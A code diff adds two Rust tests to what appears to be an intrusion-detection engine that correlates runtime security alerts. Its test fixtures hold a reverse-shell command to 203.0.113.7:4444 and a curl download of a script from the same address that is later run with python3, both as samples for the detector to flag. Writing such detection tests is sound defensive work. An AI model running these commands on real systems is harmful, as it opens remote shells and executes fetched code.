@@ -106,6 +106,42 @@ fn attack_evidence_on_a_workload_raises_its_later_alerts() {
     assert_eq!(much_later.kind, VerdictKind::Suspicious, "{much_later:#?}");
 }
 
+/// One key, two scopes: `host:node-3` is the workload of an alert about the host itself and
+/// the node of a container on it. A later alert's reason names the scope as it sees it.
+#[test]
+fn attack_evidence_on_the_host_is_named_as_the_node_of_a_later_container_alert() {
+    let mut e = engine();
+    let on_host = alert(json!({
+        "time": "2026-03-01T10:00:00Z", "rule": "Terminal shell in container", "priority": "Notice",
+        "source": "syscall", "hostname": "node-3",
+        "output_fields": {
+            "container.id": "host", "proc.name": "bash", "proc.pname": "sshd",
+            "proc.cmdline": "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
+        }
+    }));
+    assert_eq!(verdict_of(e.process(on_host)).kind, VerdictKind::Malicious);
+    let in_container = |time: &str| {
+        alert(json!({
+            "time": time, "rule": "Terminal shell in container", "priority": "Notice",
+            "source": "syscall", "hostname": "node-3",
+            "output_fields": {
+                "container.id": "0f1e2d3c4b5a", "proc.name": "bash", "proc.pname": "runc",
+                "proc.cmdline": "bash -il", "proc.tty": 34816
+            }
+        }))
+    };
+    // Twice: the second reason is the text remembered for the scope.
+    for t in ["2026-03-01T10:01:00Z", "2026-03-01T10:02:00Z"] {
+        let v = verdict_of(e.process(in_container(t)));
+        let reason = v
+            .reasons
+            .iter()
+            .find(|r| r.field.as_deref() == Some("incident"))
+            .expect("the earlier evidence is a reason");
+        assert!(reason.text.contains("on the same node:"), "{}", reason.text);
+    }
+}
+
 #[test]
 fn an_activity_that_carried_attack_evidence_never_becomes_routine() {
     let mut e = engine();
@@ -188,5 +224,44 @@ fn evidence_matching_cost_on_the_engine_path() {
         best_none,
         best_with,
         (best_with / best_none - 1.0) * 100.0
+    );
+}
+
+/// A download in one alert and the downloaded file run in a later alert of the same container
+/// is a dropper's pattern: the second alert is malicious, with the download named; the same
+/// file run in another container is not.
+#[test]
+fn a_file_downloaded_then_run_on_the_same_workload_is_malicious() {
+    let on = |container: &str, rule: &str, cmdline: &str| {
+        alert(json!({
+            "rule": rule, "priority": "Warning", "source": "syscall",
+            "output_fields": {"container.id": container, "proc.cmdline": cmdline,
+                              "proc.name": cmdline.split(' ').next(), "user.name": "www-data"}
+        }))
+    };
+    let mut e = engine();
+    let fetch = verdict_of(e.process(on(
+        "0a1b2c3d4e5f",
+        "Launch Suspicious Network Tool in Container",
+        "curl -so /tmp/agent.py http://203.0.113.7:8081/agent.py",
+    )));
+    assert_ne!(fetch.kind, VerdictKind::Malicious, "{fetch:#?}");
+    let other = verdict_of(e.process(on(
+        "ffffffffffff",
+        "Run shell untrusted",
+        "python3 /tmp/agent.py",
+    )));
+    assert_ne!(other.kind, VerdictKind::Malicious, "{other:#?}");
+    let run = verdict_of(e.process(on(
+        "0a1b2c3d4e5f",
+        "Run shell untrusted",
+        "python3 /tmp/agent.py",
+    )));
+    assert_eq!(run.kind, VerdictKind::Malicious, "{run:#?}");
+    assert!(
+        run.reasons
+            .iter()
+            .any(|r| r.text.contains("/tmp/agent.py") && r.text.contains("curl")),
+        "{run:#?}"
     );
 }
